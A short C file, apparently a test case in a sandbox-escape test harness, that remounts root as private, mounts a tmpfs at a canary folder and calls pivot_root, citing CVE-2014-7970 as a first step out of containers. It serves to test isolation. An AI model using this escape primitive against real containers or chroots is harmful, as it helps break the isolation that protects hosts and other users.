// title: puts another folder in the place of the root folder
// source: CVE-2014-7970, pivot_root from within a chroot; the first step of many containers, and out of them
// twin: namespace
#include "attack.h"

ATTACK(pivot_root) {
    mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL);
    mount("none", canary.folder, "tmpfs", 0, NULL);
    if (chdir(canary.folder)) chdir("/tmp");
    told(syscall(SYS_pivot_root, ".", "."), "pivot_root");
}
